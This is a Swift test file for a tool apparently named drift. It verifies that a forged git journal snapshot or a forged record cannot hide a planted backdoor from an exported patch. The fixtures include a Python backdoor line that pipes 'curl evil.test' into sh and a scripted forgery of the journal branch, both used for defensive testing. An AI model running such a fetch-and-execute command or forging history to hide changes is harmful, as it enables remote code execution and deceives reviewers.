import Foundation
import Testing
@testable import DriftCore
@testable import DriftGit
@testable import DriftSystem

/// Issue 28, LOW: a journal snapshot forged inside the container — a decoy tree under a copy
/// of the real snapshot's record — must never reach `drift.patch` while `drift diff` shows
/// the backdoor. Export builds from what its scan just read and checks the snapshot it uses.
@Suite("Forged journal")
struct ForgedJournalTests {
    static let backdoor = "import os\n\ndef main():\n    os.system('curl evil.test | sh')\n"
    static let decoy = "import os\n\ndef main():\n    print('worker, retry fixed')\n"

    /// Makes a commit whose tree is the latest snapshot's with `path` holding `content`,
    /// with the latest's message and a copy of its note, and moves the journal branch to it
    /// (git's own CLI, as an attacker with the state dir's permissions would).
    static func forgeLatest(_ f: Fixture, path: String, content: String) throws -> String {
        let j = f.state + "/journal.git"
        let index = f.dir.sub("forge.index")
        try write(f.dir.sub("decoy"), content)
        let script = """
            set -e
            export GIT_DIR='\(j)' GIT_INDEX_FILE='\(index)'
            real=$(git rev-parse refs/heads/journal)
            blob=$(git hash-object -w '\(f.dir.sub("decoy"))')
            git read-tree "$real^{tree}"
            git update-index --cacheinfo "100644,$blob,\(path)"
            tree=$(git write-tree)
            parent=$(git rev-parse "$real^")
            forged=$(git log -1 --format=%B "$real" | git commit-tree "$tree" -p "$parent")
            git notes --ref drift-snapshot copy "$real" "$forged"
            git update-ref refs/heads/journal "$forged"
            echo "$forged"
            """
        return try sh(script).trimmingCharacters(in: .whitespacesAndNewlines)
    }

    @Test("a decoy tree under a copied note: export ships the scanned backdoor, says so; --from-journal refuses")
    func forgedSnapshotWithCopiedNote() throws {
        let f = try Fixture()
        defer { f.dir.remove() }
        try f.bake()
        try write(f.workspace + "/worker/main.py", Self.backdoor)
        let (scan, _) = try f.scan()
        try #require(scan.code == 1, "\(scan.err)")
        let forged = try Self.forgeLatest(f, path: "worker/main.py", content: Self.decoy)
        // The journal now claims the drift's id for a tree holding the decoy.
        let shown = try sh("git --git-dir='\(f.state)/journal.git' show refs/heads/journal:worker/main.py")
        #expect(shown == Self.decoy)
        // diff shows what the workspace holds.
        let diff = try drift(["diff", "--manifest", f.mdir, "--state", f.state])
        #expect(diff.out.contains("curl evil.test"), "\(diff.out)")

        // Exporting the journal alone: the forged snapshot's tree is not the id its record names.
        let fromJournal = f.dir.sub("from-journal")
        let refused = try drift(["export", "--manifest", f.mdir, "--state", f.state, "--from-journal",
                                 "--output", fromJournal])
        #expect(refused.code == 2, "\(refused.out) \(refused.err)")
        #expect(refused.err.hasPrefix("drift: ") && refused.err.split(separator: "\n").count == 1, "\(refused.err)")
        #expect(refused.err.contains("journal snapshot \(forged) does not hold the drift its record names"),
                "\(refused.err)")
        #expect(!FileManager.default.fileExists(atPath: fromJournal))

        // Exporting with a scan: built from what the scan read, and the forgery is named.
        let out = f.dir.sub("out")
        let ex = try drift(["export", "--manifest", f.mdir, "--state", f.state, "--output", out])
        try #require(ex.code == 0, "\(ex.err)")
        #expect(ex.err.contains("journal snapshot \(forged) named this drift but did not hold what the scan read"),
                "\(ex.err)")
        let patch = try String(contentsOfFile: out + "/drift.patch", encoding: .utf8)
        #expect(patch.contains("curl evil.test"))
        #expect(!patch.contains("retry fixed"))
        // The oracle: git am on a clone of upstream gives the workspace's bytes.
        let clone = f.dir.sub("clone")
        try sh("git clone -q '\(f.upstream)' '\(clone)' && cd '\(clone)' && git am -q '\(out)/drift.patch'")
        #expect(try String(contentsOfFile: clone + "/worker/main.py", encoding: .utf8) == Self.backdoor)
        // The journal's branch now names a snapshot that holds the scanned state, and a later
        // export from the journal alone agrees with it.
        let tip = try sh("git --git-dir='\(f.state)/journal.git' rev-parse refs/heads/journal")
            .trimmingCharacters(in: .whitespacesAndNewlines)
        #expect(tip != forged)
        let again = f.dir.sub("again")
        let ex2 = try drift(["export", "--manifest", f.mdir, "--state", f.state, "--from-journal", "--output", again,
                             "--cumulative"])
        #expect(ex2.code == 0, "\(ex2.err)")
        // Incident 13, F9: nothing read now vouches for a journal-only export, and it says so.
        #expect(ex2.err.contains("exported from the journal as recorded, not read again"), "\(ex2.err)")
        let patch2 = try String(contentsOfFile: again + "/drift.patch", encoding: .utf8)
        #expect(patch2.contains("curl evil.test") && !patch2.contains("retry fixed"))
    }

    @Test("a forged record that hides a path from the export message is replaced by what the scan read")
    func forgedRecordHidingAPath() throws {
        let f = try Fixture()
        defer { f.dir.remove() }
        try f.bake()
        try write(f.workspace + "/worker/main.py", Self.backdoor)
        try write(f.workspace + "/worker/util.py", "def helper(x):\n    return x + 2\n")
        let (scan, _) = try f.scan()
        try #require(scan.code == 1, "\(scan.err)")
        // Same tree, same id, a record that lists util.py only (its drift_id_inputs kept).
        let j = f.state + "/journal.git"
        let note = try sh("git --git-dir='\(j)' notes --ref drift-snapshot show refs/heads/journal")
        var obj = try #require(try JSONSerialization.jsonObject(with: Data(note.utf8)) as? [String: Any])
        let entries = try #require(obj["entries"] as? [[String: Any]])
        obj["entries"] = entries.filter { ($0["path"] as? String) != "worker/main.py" }
        try JSONSerialization.data(withJSONObject: obj, options: [.sortedKeys]).write(to: URL(fileURLWithPath:
            f.dir.sub("note.json")))
        try sh("git --git-dir='\(j)' notes --ref drift-snapshot add -f -F '\(f.dir.sub("note.json"))' "
               + "refs/heads/journal")
        let out = f.dir.sub("out")
        let ex = try drift(["export", "--manifest", f.mdir, "--state", f.state, "--output", out])
        try #require(ex.code == 0, "\(ex.err)")
        #expect(ex.err.contains("did not hold what the scan read"), "\(ex.err)")
        let patch = try String(contentsOfFile: out + "/drift.patch", encoding: .utf8)
        let message = patch.components(separatedBy: "\n---\n")[0]
        #expect(message.contains("worker/main.py"), "\(message)")
    }
}
